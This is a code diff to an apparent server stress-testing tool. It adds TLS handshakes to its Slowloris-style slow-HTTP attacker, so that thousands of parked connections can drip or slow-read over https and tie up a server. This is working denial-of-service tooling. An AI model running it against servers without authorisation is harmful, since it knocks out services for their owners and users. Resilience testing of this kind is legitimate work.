@@ -19,6 +19,14 @@ Every wait is bounded by the attack's end (the run's deadline; the coordinator s
 run earlier, once the control traffic is done) and every loop by ``MAX_DRIPS``. Counters
 are cumulative (``protocols.loris``); ``loris.done`` counts actors whose walker ended.
 
+For an ``https://`` target each connection completes a TLS handshake right after connect
+(``actors.tls_socket``, within the connect timeout) and the drips go inside TLS, as a slow
+TLS client's would. A handshake that times out or is refused (an alert, an untrusted
+certificate) is a connect failure (``timeout`` / ``other``); one the server closes or
+resets counts as connected and then ``closed_by_server`` / ``reset``. The slow-read modes
+read one byte of plaintext per interval: OpenSSL drains the tiny TCP buffer a record at a
+time, so the server's writes still stall on the window, a record later.
+
 Why bare ``trio.socket`` and one task per connection: as in ``actors.hold_walker``, a
 parked task with its socket is a few kilobytes, so one actor core holds thousands; a
 ``SocketStream`` would also hide the socket option that must be set before connect.
@@ -32,7 +40,7 @@ from typing import Any
 
 import trio
 
-from actors import fd_limit, net
+from actors import fd_limit, net, tls_socket
 from actors.walker import WalkerContext
 from protocols.http1 import (
     Response,
@@ -56,6 +64,7 @@ from protocols.loris import (
     OPENED,
     RCVBUF,
     REPEATED,
+    RESET,
     SLOW_READ_RCVBUF,
     STATUS,
     ConnectFailure,
@@ -102,30 +111,60 @@ class _Attacker:
         self.opening = opening(plan, ctx.target.host_header)
         self.method = "POST" if plan.mode is Mode.BODY else "GET"
         self.rcvbuf = SLOW_READ_RCVBUF if plan.mode.reads_slowly else RCVBUF
+        self.target = ctx.target
 
     async def attack_one(self, index: int) -> None:
         tally = self.tally
         tally.incr(OPENED)
+        started = trio.current_time()
         sock, failure = await self._dial(index)
         if sock is None:
             if failure is not None:
                 tally.incr_each((CONNECT_FAILED, failure.counter))
             return
         try:
+            conn = sock
+            if self.target.scheme == "https":
+                conn = await self._secure(sock, index, started)
+                if conn is None:
+                    return
             tally.incr(CONNECTED)
             with trio.move_on_at(self.end):
                 try:
-                    await self._send(sock, self.opening)
+                    await self._send(conn, self.opening)
                     if self.plan.mode.reads_slowly:
-                        ending = await self._read_slowly(sock)
+                        ending = await self._read_slowly(conn)
                     else:
-                        ending = await self._drip(sock)
+                        ending = await self._drip(conn)
                 except OSError as exc:
                     ending = ending_of(exc)
                     tally.keep_example(ending, {"connection": index, "error": str(exc)})
                 tally.incr(ending)
         finally:
             sock.close()
+
+    async def _secure(self, sock: Any, index: int, started: float) -> Any:
+        """The TLS connection over ``sock``, or None once the failed handshake is counted
+        (the attack ending mid-handshake counts nothing, as mid-connect)."""
+        tally = self.tally
+        deadline = min(started + self.plan.connect_timeout_s, self.end)
+        with trio.move_on_at(self.end):
+            try:
+                return await tls_socket.secure(sock, self.target,
+                                               deadline - trio.current_time())
+            except net.TransportError as exc:
+                example = {"connection": index, "error": str(exc), "when": "TLS handshake"}
+                if exc.cause in ("reset", "eof"):
+                    ending = RESET if exc.cause == "reset" else CLOSED_BY_SERVER
+                    tally.incr_each((CONNECTED, ending))
+                    tally.keep_example(ending, example)
+                    return None
+                failure = (ConnectFailure.TIMEOUT if exc.cause == "tls_timeout"
+                           else ConnectFailure.OTHER)
+                if deadline < self.end or failure is not ConnectFailure.TIMEOUT:
+                    tally.incr_each((CONNECT_FAILED, failure.counter))
+                    tally.keep_example(failure.counter, example)
+        return None
 
     async def _dial(self, index: int) -> tuple[Any, ConnectFailure | None]:
         """A connected socket, or why there is none by the connect deadline (None: the
